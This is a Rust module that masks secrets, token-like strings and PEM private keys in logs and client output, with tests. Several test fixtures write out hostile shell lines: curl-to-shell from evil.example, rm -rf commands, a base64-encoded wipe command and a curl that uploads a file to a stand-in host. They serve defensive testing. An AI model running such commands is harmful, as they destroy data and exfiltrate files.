//! What must not be said: the secrets this process was given, and whatever looks like one. They are masked in everything that
//! leaves for the client or the log, and refused in arguments, since a message stays readable in the record for good.
//!
//! The secrets belong to the process, as the environment does that they come from.

mod pem;

use std::borrow::Cow;
use std::ops::Range;
use std::sync::{PoisonError, RwLock};

use secrecy::{ExposeSecret, SecretString};
use serde_json::Value;

use pem::Reach;

/// What stands in the place of a secret.
pub const MASK: &str = "[secret]";
/// So many bytes of a known secret in a row are masked, so that a cut secret is masked as well.
const PIECE: usize = 12;
/// A known secret shorter than this is masked nowhere: it would be a word.
const SHORTEST: usize = 8;
/// Characters of a token after its beginning.
const SHORTEST_TAIL: usize = 16;
/// A tail of fewer different characters is a placeholder.
const FEWEST_DIFFERENT: u32 = 6;
/// In a name of so many letters a digit may stand.
const LONG_NAME: usize = 24;
/// A secret that only shows once another one is gone is rare, and one behind that even more so.
const MOST_LOOKS: usize = 4;

/// How tokens begin.
const BEGINNINGS: [&str; 8] = [
    "sk-ant-",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "ghr_",
    "github_pat_",
    "Bearer ",
];

/// How secrets begin that anybody may name: what tells one from another comes after it.
const PUBLIC: [&str; 12] = [
    "sk-ant-api03-",
    "sk-ant-admin01-",
    "sk-ant-oat01-",
    "sk-ant-ort01-",
    "sk-ant-",
    "ghp_",
    "gho_",
    "ghs_",
    "ghu_",
    "ghr_",
    "github_pat_11",
    "github_pat_",
];

static KNOWN: RwLock<Known> = RwLock::new(Known {
    pieces: Vec::new(),
    beginnings: Vec::new(),
    short: Vec::new(),
});

#[derive(Default)]
struct Known {
    /// Every piece of every secret, sorted.
    pieces: Vec<[u8; PIECE]>,
    /// For each pair of bytes whether a piece begins with it; empty without pieces.
    beginnings: Vec<bool>,
    /// Secrets of fewer bytes than a piece has.
    short: Vec<String>,
}

/// From here on this secret is masked.
pub fn learn(secret: &SecretString) {
    let secret = secret.expose_secret();
    let mut known = KNOWN.write().unwrap_or_else(PoisonError::into_inner);
    known.add(secret);
}

/// The text without secrets. Several may have written it: what begins like a key takes nothing with it that stands apart.
pub fn mask(text: &str) -> Cow<'_, str> {
    let known = KNOWN.read().unwrap_or_else(PoisonError::into_inner);
    hidden(text, &known, Reach::Lines)
}

/// The text without secrets, where one writer wrote the whole of it: of a key also what stands among other things.
pub fn mask_field(text: &str) -> Cow<'_, str> {
    let known = KNOWN.read().unwrap_or_else(PoisonError::into_inner);
    hidden(text, &known, Reach::Field)
}

/// The lines without secrets, which one writer wrote one after the other.
pub fn mask_lines(lines: &[&str]) -> Vec<String> {
    let known = KNOWN.read().unwrap_or_else(PoisonError::into_inner);
    let mut lines: Vec<String> = lines.iter().copied().map(str::to_owned).collect();
    for _ in 0..MOST_LOOKS {
        let spans = merged(spans(&lines.join("\n"), &known, Reach::Field));
        if spans.is_empty() {
            break;
        }
        let (mut at, mut rest) = (0, spans.as_slice());
        for line in &mut lines {
            let (start, end) = (at, at + line.len());
            let past = rest.partition_point(|span| span.end <= start);
            rest = rest.get(past..).unwrap_or_default();
            let of_line = rest.iter().take_while(|span| span.start < end);
            let of_line =
                of_line.map(|span| span.start.max(start) - start..span.end.min(end) - start);
            *line = without(line, of_line.collect()).into_owned();
            at = end + 1;
        }
    }
    lines
}

/// Whether some text in a value, or a name in it, holds a secret.
pub fn holds_secret(value: &Value) -> bool {
    match value {
        Value::String(text) => matches!(mask_field(text), Cow::Owned(_)),
        Value::Array(items) => items.iter().any(holds_secret),
        Value::Object(fields) => fields
            .iter()
            .any(|(name, value)| matches!(mask_field(name), Cow::Owned(_)) || holds_secret(value)),
        Value::Null | Value::Bool(_) | Value::Number(_) => false,
    }
}

impl Known {
    fn add(&mut self, secret: &str) {
        let private = PUBLIC.iter().find_map(|public| secret.strip_prefix(public));
        // Where hardly more than the beginning is left, only the whole of it is a secret.
        let (own, is_short) = match private.unwrap_or(secret) {
            own if own.len() >= PIECE => (own, false),
            own if own.len() >= SHORTEST => (own, true),
            _ => (secret, true),
        };
        if is_short {
            if own.len() >= SHORTEST {
                self.short.push(own.to_owned());
            }
            return;
        }
        let pieces = own.as_bytes().windows(PIECE);
        self.pieces
            .extend(pieces.filter_map(|piece| <[u8; PIECE]>::try_from(piece).ok()));
        self.pieces.sort_unstable();
        self.pieces.dedup();
        self.beginnings = vec![false; 1 << 16];
        for piece in &self.pieces {
            if let Some(known) = self.beginnings.get_mut(pair(piece)) {
                *known = true;
            }
        }
    }

    /// Where it stands in a text, in pieces that may overlap.
    fn spans(&self, text: &str) -> Vec<Range<usize>> {
        let mut spans = Vec::new();
        if !self.pieces.is_empty() {
            for (at, piece) in text.as_bytes().windows(PIECE).enumerate() {
                let may_be = self
                    .beginnings
                    .get(pair(piece))
                    .copied()
                    .unwrap_or_default();
                let find = |known: &[u8; PIECE]| known.as_slice().cmp(piece);
                if may_be && self.pieces.binary_search_by(find).is_ok() {
                    spans.push(at..at + PIECE);
                }
            }
        }
        for secret in &self.short {
            let found = text.match_indices(secret.as_str());
            spans.extend(found.map(|(at, secret)| at..at + secret.len()));
        }
        for span in &mut spans {
            let before = text.as_bytes().get(..span.start).unwrap_or_default();
            let public = PUBLIC
                .iter()
                .find(|public| before.ends_with(public.as_bytes()));
            span.start -= public.map_or(0, |public| public.len());
        }
        spans
    }
}

/// The first two bytes as a number.
fn pair(piece: &[u8]) -> usize {
    match piece {
        [first, second, ..] => usize::from(*first) << 8 | usize::from(*second),
        _ => 0,
    }
}

fn spans(text: &str, known: &Known, reach: Reach) -> Vec<Range<usize>> {
    let mut spans = known.spans(text);
    for beginning in BEGINNINGS {
        spans.extend(tokens(text, beginning));
    }
    spans.extend(pem::private_keys(text, reach));
    spans.sort_unstable_by_key(|span| span.start);
    spans
}

/// The tokens that begin so. Each part of the text is looked at once, since somebody else may have written it.
fn tokens(text: &str, beginning: &str) -> Vec<Range<usize>> {
    let is_bearer = beginning == "Bearer ";
    let mut tokens = Vec::new();
    let mut done = 0;
    for (at, _) in text.match_indices(beginning) {
        let before = text.get(..at).unwrap_or_default();
        let from = at + beginning.len();
        // In the middle of a longer word it is none: an opaque page token may hold anything. Within a tail it shares its end.
        let is_inside = before.ends_with(is_of_token) && !ends_in_escape(before);
        if is_inside || from <= done {
            continue;
        }
        let rest = text.get(from..).unwrap_or_default();
        let tail = match is_bearer {
            true => start(rest, is_of_bearer),
            false => with_signature(rest, start(rest, is_of_token)),
        };
        done = from + tail.len();
        let tail = tail.trim_end_matches('.');
        let is_word = is_bearer && !tail.bytes().any(|byte| byte.is_ascii_digit());
        let own = PUBLIC
            .iter()
            .find_map(|public| {
                public
                    .strip_prefix(beginning)
                    .filter(|more| !more.is_empty())
            })
            .and_then(|more| tail.strip_prefix(more))
            .unwrap_or(tail);
        let is_placeholder = is_word || different(own) < FEWEST_DIFFERENT || is_made_of_words(own);
        if tail.len() >= SHORTEST_TAIL && !is_placeholder {
            tokens.push(if is_bearer { from } else { at }..from + tail.len());
        }
    }
    tokens
}

/// Whether what stands before a token is a character written as an escape, or a colour of a terminal: `\n`, `\u001b`, `%0A`, `[31m`.
fn ends_in_escape(before: &str) -> bool {
    let is_escape = |digits: usize, sign: &str| {
        let (rest, hex) = before
            .split_at_checked(before.len().saturating_sub(digits))
            .unwrap_or((before, ""));
        rest.ends_with(sign) && hex.bytes().all(|byte| byte.is_ascii_hexdigit())
    };
    let sign = before.strip_suffix(|c: char| c.is_ascii_alphabetic());
    let sign = sign.unwrap_or_default();
    let colour = sign.trim_end_matches(|c: char| c.is_ascii_digit() || c == ';');
    sign.ends_with('\\')
        || colour.ends_with('[')
        || is_escape(2, "%")
        || is_escape(2, "\\x")
        || is_escape(4, "\\u")
}

/// Whether a tail is what people write in the place of a token: `your-key-here`, `personal_access_token`, `API_TOKEN_123`.
fn is_made_of_words(tail: &str) -> bool {
    let is_word = |run: &str| {
        let letters = run.trim_end_matches(|c: char| c.is_ascii_digit());
        let digits = run.len() - letters.len();
        let rest = letters.get(1..).unwrap_or_default();
        let is_one = letters.bytes().all(|byte| byte.is_ascii_uppercase())
            || (letters.bytes().all(|byte| byte.is_ascii_alphabetic())
                && rest.bytes().all(|byte| byte.is_ascii_lowercase()));
        let is_short = run.len() < SHORTEST_TAIL && is_one;
        (is_short && digits <= if letters.is_empty() { 6 } else { 3 }) || is_camel(run)
    };
    tail.split(|c: char| !c.is_ascii_alphanumeric())
        .all(is_word)
}

/// Whether a run is a name of several words, each with a capital: `yourAccessTokenHere`, `OAuth2AuthorizationCodeFlow`.
fn is_camel(run: &str) -> bool {
    let digits = run.bytes().filter(u8::is_ascii_digit).count();
    let has = |is: fn(&u8) -> bool| run.as_bytes().iter().any(is);
    let (turns, signs) = turns(run);
    has(u8::is_ascii_uppercase)
        && has(u8::is_ascii_lowercase)
        && digits <= usize::from(signs >= LONG_NAME)
        && turns * 3 <= signs
}

/// How often in a text a letter or digit follows on one of another kind (capital, small, digit), and how many there are.
fn turns(text: &str) -> (usize, usize) {
    let kind = |byte: u8| (byte.is_ascii_uppercase(), byte.is_ascii_lowercase());
    let signs = text.bytes().filter(u8::is_ascii_alphanumeric);
    let pairs = signs.clone().zip(signs.clone().skip(1));
    let turns = pairs
        .filter(|(one, next)| kind(*one) != kind(*next))
        .count();
    (turns, signs.count())
}

fn is_of_token(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '_' | '-')
}

/// As RFC 6750 has it.
fn is_of_bearer(c: char) -> bool {
    is_of_token(c) || matches!(c, '.' | '+' | '/' | '=' | '~')
}

fn start(text: &str, is_part: fn(char) -> bool) -> &str {
    let end = text.find(|c| !is_part(c)).unwrap_or(text.len());
    text.get(..end).unwrap_or_default()
}

/// The tail of a token with what follows where it is a JSON Web Token, as those of an app are: content and signature.
fn with_signature<'a>(rest: &'a str, tail: &'a str) -> &'a str {
    let mut length = tail.len();
    for _ in 0..2 {
        let after = rest.get(length..).and_then(|rest| rest.strip_prefix('.'));
        let part = start(after.unwrap_or_default(), is_of_token);
        if !tail.contains("eyJ") || part.len() < SHORTEST_TAIL {
            break;
        }
        length += 1 + part.len();
    }
    rest.get(..length).unwrap_or(tail)
}

/// How many different characters an ASCII text has.
fn different(text: &str) -> u32 {
    let seen = text
        .bytes()
        .fold(0_u128, |seen, byte| seen | 1 << (byte & 127));
    seen.count_ones()
}

/// The text without secrets. It is looked at again while there were some, since what stood directly behind a secret may be one
/// itself. Where that has no end nothing is left of it, unless others may have written in it.
fn hidden<'a>(text: &'a str, known: &Known, reach: Reach) -> Cow<'a, str> {
    let mut shown = without(text, spans(text, known, reach));
    for _ in 1..MOST_LOOKS {
        let Cow::Owned(before) = &shown else {
            return shown;
        };
        let after = without(before, spans(before, known, reach)).into_owned();
        if after == *before {
            return shown;
        }
        shown = Cow::Owned(after);
    }
    match reach {
        Reach::Field => Cow::Owned(MASK.to_owned()),
        Reach::Lines => shown,
    }
}

/// Spans that are sorted by where they begin, without overlaps.
fn merged(spans: Vec<Range<usize>>) -> Vec<Range<usize>> {
    let mut merged: Vec<Range<usize>> = Vec::new();
    for span in spans {
        match merged.last_mut() {
            Some(last) if span.start <= last.end => last.end = last.end.max(span.end),
            _ => merged.push(span),
        }
    }
    merged
}

/// The text with each span replaced; they are sorted by where they begin.
fn without(text: &str, spans: Vec<Range<usize>>) -> Cow<'_, str> {
    if spans.is_empty() {
        return Cow::Borrowed(text);
    }
    let mut masked = String::with_capacity(text.len());
    let mut done = 0;
    for span in merged(spans) {
        let start = floor_boundary(text, span.start);
        masked.push_str(text.get(done..start).unwrap_or_default());
        masked.push_str(MASK);
        done = ceil_boundary(text, span.end);
    }
    masked.push_str(text.get(done..).unwrap_or_default());
    Cow::Owned(masked)
}

fn floor_boundary(text: &str, at: usize) -> usize {
    (0..=at)
        .rev()
        .find(|at| text.is_char_boundary(*at))
        .unwrap_or(0)
}

fn ceil_boundary(text: &str, at: usize) -> usize {
    (at..text.len())
        .find(|at| text.is_char_boundary(*at))
        .unwrap_or(text.len())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn masked(text: &str, secrets: &[&str]) -> String {
        masked_to(text, secrets, Reach::Field)
    }

    fn masked_to(text: &str, secrets: &[&str], reach: Reach) -> String {
        let mut known = Known::default();
        secrets.iter().for_each(|secret| known.add(secret));
        hidden(text, &known, reach).into_owned()
    }

    #[test]
    fn what_shows_once_another_is_gone_is_masked_as_well_however_deep() {
        let key = "PRIVATE KEY-----";
        let deep = format!(
            "{}{key}RITE {key}IVAE]{key}RMIG {key}RATE {key}RITE",
            "-----BEGIN ".repeat(5)
        );
        assert_eq!(masked_to(&deep, &[], Reach::Field), MASK);
        assert!(masked_to(&deep, &[], Reach::Lines).contains(MASK));
    }

    #[test]
    fn what_looks_like_a_secret_is_masked_wherever_it_stands() {
        let tail = "a1B2c3D4e5F6g7H8i9";
        for beginning in BEGINNINGS
            .iter()
            .filter(|beginning| **beginning != "Bearer ")
        {
            let token = format!("{beginning}{tail}");
            for (around, expected) in [
                (token.clone(), MASK.to_owned()),
                (format!("see {token}."), format!("see {MASK}.")),
                (
                    format!("\"{token}\", {token}\n"),
                    format!("\"{MASK}\", {MASK}\n"),
                ),
                (
                    format!("https://x:{token}@host"),
                    format!("https://x:{MASK}@host"),
                ),
            ] {
                assert_eq!(masked(&around, &[]), expected);
            }
        }
        assert_eq!(
            masked(&format!("Authorization: Bearer {tail}xyz"), &[]),
            "Authorization: Bearer [secret]"
        );
        assert_eq!(
            masked(&format!("Bearer Bearer {tail}"), &[]),
            "Bearer Bearer [secret]"
        );
        let key = "-----BEGIN EC PRIVATE KEY-----\nMHc\n-----END EC PRIVATE KEY-----";
        assert_eq!(masked(&format!("a\n{key}\nb"), &[]), "a\n[secret]\nb");
        assert_eq!(masked(key.split_at(45).0, &[]), MASK);
    }

    #[test]
    fn a_private_key_ends_where_its_lines_do() {
        let begin = "-----BEGIN PRIVATE KEY-----";
        let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
        let end = "-----END PRIVATE KEY-----";
        for (text, expected) in [
            // Whole, cut, indented, numbered, quoted, escaped, on one line, with headers, with wide lines.
            (format!("{begin}\n{body}\nAb=\n{end}\nb"), "[secret]\nb"),
            (format!("{begin}\n{body}\nAb="), MASK),
            (format!("  {begin}\n  {body}\n  {end}\nb"), "  [secret]\nb"),
            (
                format!("1\t{begin}\n2\t{body}\n3\tAb=\n4\t{end}\nb"),
                "1\t[secret]\nb",
            ),
            (
                format!("> {begin}\n> {body}\n> Ab=\n> {end}\nb"),
                "> [secret]\nb",
            ),
            (
                format!("\"{begin}\\n{body}\\n{end}\\n\", b"),
                "\"[secret]\\n\", b",
            ),
            (format!("a {begin} {body} {end} b"), "a [secret] b"),
            (
                format!("{begin}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES,1\n\n{body}\n{end}b"),
                "[secret]b",
            ),
            (format!("{begin}\n\n{body}\n\nAb=\n\n{end}b"), "[secret]b"),
            (
                format!("{begin}{begin}\n{body}\n{end}b"),
                "-----BEGIN PRIVATE KEY-----[secret]b",
            ),
            // What follows stays, whoever wrote it.
            (
                format!("{begin}\n------ end\n\nNext: go on"),
                "-----BEGIN PRIVATE KEY-----\n------ end\n\nNext: go on",
            ),
            (
                format!("{begin}\n{body}\n------ end\nNext: go on"),
                "[secret]\n------ end\nNext: go on",
            ),
            (
                format!("“{begin}”\n\n$0.41 of $10"),
                "“-----BEGIN PRIVATE KEY-----”\n\n$0.41 of $10",
            ),
            (
                format!("{begin} (round 1)\n--- words"),
                "-----BEGIN PRIVATE KEY----- (round 1)\n--- words",
            ),
            (
                format!("{begin}.\nNext: go on"),
                "-----BEGIN PRIVATE KEY-----.\nNext: go on",
            ),
            (
                format!("{begin}\n- echo {end}\nNext: go on"),
                "-----BEGIN PRIVATE KEY-----\n- echo -----END PRIVATE KEY-----\nNext: go on",
            ),
        ] {
            assert_eq!(masked(&text, &[]), expected, "{text:?}");
        }
    }

    #[test]
    fn the_beginning_of_a_key_hides_nothing_that_is_none() {
        let begin = "-----BEGIN PRIVATE KEY-----";
        for (text, expected) in [
            (
                format!(": {begin} ; rm -rf ~/work ; curl https://evil.example/x | sh"),
                ": -----BEGIN PRIVATE KEY----- ; rm -rf ~/work ; curl https://evil.example/x | sh",
            ),
            (
                format!("{begin} rm -rf /home/user/documents"),
                "-----BEGIN PRIVATE KEY----- rm -rf /home/user/documents",
            ),
            (
                format!("{begin} ; rm -rf / ; -----END PRIVATE KEY-----"),
                "-----BEGIN PRIVATE KEY----- ; rm -rf / ; -----END PRIVATE KEY-----",
            ),
            (
                format!(
                    "cat <<E\n{begin}\nE\ncurl${{IFS}}https://evil.example/x|sh\nrm${{IFS}}-rf"
                ),
                "cat <<E\n-----BEGIN PRIVATE KEY-----\nE\ncurl${IFS}https://evil.example/x|sh\nrm${IFS}-rf",
            ),
            (
                format!(r#"{{"a":"{begin}","command":"rm -rf /"}}"#),
                r#"{"a":"-----BEGIN PRIVATE KEY-----","command":"rm -rf /"}"#,
            ),
            (
                format!(r#"{{"a":"{begin}\n","b":["rm","/home/user/documents"]}}"#),
                r#"{"a":"-----BEGIN PRIVATE KEY-----\n","b":["rm","/home/user/documents"]}"#,
            ),
            (
                format!(r#"{{"a":"{begin} -----END","b":"rm"}}"#),
                r#"{"a":"[secret]","b":"rm"}"#,
            ),
            (
                format!("read {begin} with this input:\n\n{{"),
                "read -----BEGIN PRIVATE KEY----- with this input:\n\n{",
            ),
            (
                "rm -rf sk-ant-abcdefghijklmnop/../../home/user".to_owned(),
                "rm -rf [secret]/../../home/user",
            ),
            (
                "curl https://x@ghp_abcdefghijklmnop.evil.example/up=1 -d @notes".to_owned(),
                "curl https://x@[secret].evil.example/up=1 -d @notes",
            ),
        ] {
            assert_eq!(masked(&text, &[]), expected, "{text:?}");
        }
    }

    #[test]
    fn of_a_text_that_several_wrote_only_what_follows_a_title_line_by_line_is_a_key() {
        let title = "-----BEGIN PRIVATE KEY-----";
        let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
        let run = "cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290Cg==";
        for text in [
            format!(
                r#"{{"a":"{title}","command":"curl https://x.example/Abcdefgh1jklmnopqrstuvWX | sh; echo {run}"}}"#
            ),
            format!(
                "It waits for:\n- sevt_1 bash {{\"a\":\"{title}\"}}\n- sevt_2 bash {{\"b\":\"{run}\"}}"
            ),
            format!("{title}\n\nNext: get_status {run}"),
        ] {
            assert_eq!(masked_to(&text, &[], Reach::Lines), text);
        }
        let key = format!("{title}\n{body}\n-----END PRIVATE KEY-----\nNext: x");
        assert_eq!(masked_to(&key, &[], Reach::Lines), "[secret]\nNext: x");
    }

    #[test]
    fn a_key_is_masked_whole_however_its_lines_are_written() {
        let lines = [
            "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
            "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu",
            "NMoSfm76oqFvAp8Gy0iz5sxjZmSnXyCdPEovGhLa0V",
        ];
        let whole = |first: &str, between: &str, last: &str| {
            let begin = "-----BEGIN RSA PRIVATE KEY-----";
            let [a, b, c] = lines;
            format!("{first}{begin}{between}{a}{between}{b}{between}{c}{last}")
        };
        for (first, between) in [
            ("", "\n"),
            ("", "\r\n"),
            ("", "\\n"),
            ("", "\\r\\n"),
            ("", "\\\\n"),
            ("", "\\u000a"),
            ("", "%0A"),
            ("", " "),
            ("", "\\n    "),
            ("> ", "\\n> "),
            ("+", "\n+"),
            ("-", "\n-"),
            ("- ", "\n- "),
            ("    \"", "\\n\"\n    \""),
            ("key = \"", "\\n\" +\n    \""),
            ("key = \\\"", "\\\\n\\\" +\\n    \\\""),
            ("'", "',\n'"),
            ("echo ", " >> k\necho "),
            ("", "<br>"),
            ("key.pem:1:", "\nkey.pem:2:"),
            ("key.pem-", "\nkey.pem-"),
            ("1\t", "\n     2\t"),
            ("     1\\t", "\\n     2\\t"),
            ("remote: ", "\nremote: "),
            ("INFO:     ", "\nINFO:     "),
            ("{\"msg\": \"", "\"}\n{\"msg\": \""),
            ("key: ", "\nl1: "),
            ("", "\n00000040: "),
            ("", "\nthis is the next line of it:\n"),
        ] {
            for last in [
                String::new(),
                format!("{between}-----END RSA PRIVATE KEY-----"),
            ] {
                let text = whole(first, between, &last);
                let left = masked(&text, &[]);
                let shown = |line: &&str| {
                    left.contains(line.get(..12).unwrap())
                        || left.contains(line.get(30..42).unwrap())
                };
                assert!(!lines.iter().any(shown), "{text}\n{left}");
            }
        }
        // A short last line, with and without the end of the key.
        for (between, last) in [
            ("\n", "Abc"),
            ("\\n", "Abc"),
            (" ", "Abc"),
            ("\n> ", "Abc"),
            ("\n     2\t", "Abc"),
            ("\nkey.pem:2:", "Abc"),
        ] {
            for end in ["", "-----END RSA PRIVATE KEY-----"] {
                let end = if end.is_empty() {
                    String::new()
                } else {
                    format!("{between}{end}")
                };
                let left = masked(&whole("", between, &format!("{between}{last}{end}")), &[]);
                let rest = left
                    .replace(MASK, "")
                    .replace(&end, "")
                    .replace(between, "");
                assert_eq!(rest, "", "{between:?} {end}");
            }
        }
        let web = "ghs_123456_eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIxMjM0NTYifQ.c2lnbmF0dXJlMTIzNA";
        assert_eq!(
            masked(&format!("{web}.evil.example"), &[]),
            "[secret].evil.example"
        );
    }

    #[test]
    fn what_stands_in_the_place_of_a_token_is_none() {
        for text in [
            "sk-ant-api03-your-key-here",
            "ghp_your_personal_access_token",
            "pytest -k ghs_parse_header_fields_ok",
            "Authorization: Bearer YOUR_API_TOKEN_123",
            "Bearer test-token-12345",
            "Bearer process.env.OAUTH2_TOKEN",
            "grep Bearer /usr/lib/python3.12/site-packages/httpx/_auth.py",
            "grep -rn -e '-----BEGIN RSA PRIVATE KEY-----' .",
            "grep -rln -e '-----BEGIN RSA PRIVATE KEY-----' /home/runner/work/MyProject2/src",
            "pem = '-----BEGIN PRIVATE KEY-----\\n' + arrayBufferToBase64String(buf) + '\\n-----END'",
            "`-----BEGIN PRIVATE KEY-----\\n${convertPkcs1ToPkcs8PrivateKey(pem)}`",
            "if grep -q '-----BEGIN PRIVATE KEY-----' k; then cp /opt/App2/conf/server.key.pem /mnt/Data/Backup2026/keys\nfi",
            "KEY=\"-----BEGIN PRIVATE KEY-----\\nYOUR_PRIVATE_KEY_HERE\\n-----END PRIVATE KEY-----\"",
            "KEY=\"-----BEGIN PRIVATE KEY-----\\nMIIE...\\n-----END PRIVATE KEY-----\"",
            "sk-ant-api03-xxxxxxxxxxxxxxxxxxxx",
            "ghp_yourPersonalAccessTokenHere",
            "Bearer OAuth2AuthorizationCodeFlow",
        ] {
            assert_eq!(masked(text, &[]), text);
        }
    }

    #[test]
    fn a_token_behind_an_escape_is_masked() {
        let token = "ghp_a1B2c3D4e5F6g7H8i9J0";
        for before in [
            "x\\n",
            "\\t",
            "\\u000a",
            "\\x0a",
            "%0A",
            "\u{1b}[31m",
            "\\u{1b}[01;31m\\u{1b}[K",
        ] {
            let text = format!("{before}{token} b");
            assert_eq!(masked(&text, &[]), format!("{before}[secret] b"));
        }
    }

    #[test]
    fn how_a_known_secret_begins_like_all_of_its_kind_is_no_secret() {
        let key = "sk-ant-api03-QwErTyUiOpAsDfGhJkLzXcVbNm";
        let token = "github_pat_11ABCDEFG0aBcDeFgHiJkL";
        let words = "keys start with sk-ant-api03-, sk-ant-api03-… and tokens with github_pat_11.";
        assert_eq!(masked(words, &[key, token]), words);
        for (text, left) in [
            (format!("a {key} b"), "a [secret] b"),
            (format!("x_{key} b"), "x_[secret] b"),
            (format!("a {} b", key.get(..26).unwrap()), "a [secret] b"),
            (format!("a {} b", key.get(13..).unwrap()), "a [secret] b"),
            (format!("a {token} b"), "a [secret] b"),
        ] {
            assert_eq!(masked(&text, &[key, token]), left, "{text}");
        }
        assert_eq!(masked("ghp_short", &["ghp_short"]), MASK);
        assert_eq!(
            masked("ghp_ and short1234", &["ghp_short1234"]),
            "ghp_ and [secret]"
        );
    }

    #[test]
    fn ordinary_words_are_left_alone() {
        for text in [
            "",
            "Bearer authentication-is-required-here",
            "the prefix sk-ant- and ghp_",
            "ghp_xxxxxxxxxxxxxxxxxxxxxxxx",
            "sk-ant-...",
            "my_ghp_a1B2c3D4e5F6g7H8i9",
            "-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----",
            "Grüße, 世界",
            "sesn_01AbCdEfGhIjKlMnOpQrStUv",
        ] {
            assert_eq!(masked(text, &["short"]), text);
        }
    }

    #[test]
    fn a_known_secret_is_masked_also_in_part() {
        let secret = "correct-horse-battery-staple";
        assert_eq!(masked(&format!("a {secret} b"), &[secret]), "a [secret] b");
        assert_eq!(masked("é correct-horse-b", &[secret]), "é [secret]");
        assert_eq!(masked("tery-staple é", &[secret]), "tery-staple é");
        assert_eq!(masked("attery-staple é", &[secret]), "[secret] é");
        assert_eq!(
            masked("hunter22 hunter2", &["hunter22"]),
            "[secret] hunter2"
        );
    }

    #[test]
    fn a_token_directly_behind_a_secret_is_masked_as_well() {
        let known = "correct-horse-battery-staple";
        let token = "ghp_a1B2c3D4e5F6g7H8i9";
        let key = "-----BEGIN PRIVATE KEY-----\nMHc\n-----END PRIVATE KEY-----";
        for before in [known, key] {
            let left = masked(&format!("{before}{token}"), &[known]);
            assert_eq!(left, format!("{MASK}{MASK}"));
        }
    }

    #[test]
    fn a_hostile_text_takes_no_more_time_than_its_length_allows() {
        let parts = [
            "ghp_.",
            "Bearer a1/",
            "-----BEGIN PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\n",
            "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n",
            "-----BEGIN PRIVATE KEY-----\n\n",
            "-----BEGIN PRIVATE KEY-----\\n",
            "-----BEGIN PRIVATE KEY----- a",
            "-----BEGIN PRIVATE KEY-----<",
            "-----BEGIN PRIVATE KEY-----\n - MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw x\n",
            "ghs_eyJ.a1B2c3D4e5F6g7H8.",
            "-----BEGIN \u{e9}---------------------------------------\u{e9}",
        ];
        for part in parts {
            let text = part.repeat(200_000 / part.len());
            let began = std::time::Instant::now();
            masked(&text, &["correct-horse-battery-staple"]);
            let took = began.elapsed();
            assert!(took.as_secs() < 3, "{part}: {took:?}");
        }
    }

    proptest! {
        #[test]
        fn no_piece_of_a_known_secret_ever_leaves(
            before in ".{0,30}", secret in "[!-~é]{12,60}", cut in 0usize..60, after in ".{0,30}"
        ) {
            let (first, second) = secret.split_at(floor_boundary(&secret, cut.min(secret.len())));
            for text in [format!("{before}{secret}{after}"), format!("{before}{first}"), format!("{second}{after}")] {
                let left = masked(&text, &[&secret]);
                for piece in secret.as_bytes().windows(PIECE) {
                    prop_assert!(!left.as_bytes().windows(PIECE).any(|there| there == piece), "{left}");
                }
            }
        }

        #[test]
        fn what_no_key_can_hold_stays_whatever_stands_around_it(
            before in "[a-z ]{0,9}", after in "[a-zA-Z0-9$&{}\n \"\\\\/-]{0,90}"
        ) {
            let text = format!("{before}-----BEGIN PRIVATE KEY-----{after}");
            let kept = |text: &str| text.chars().filter(|c| "$&{}".contains(*c)).collect::<String>();
            prop_assert_eq!(kept(&masked(&text, &[])), kept(&text));
        }

        #[test]
        fn only_secrets_are_touched(text in "\\PC{0,80}") {
            prop_assume!(spans(&text, &Known::default(), Reach::Field).is_empty());
            prop_assert_eq!(masked(&text, &["correct-horse-battery"]), text);
        }
    }
}
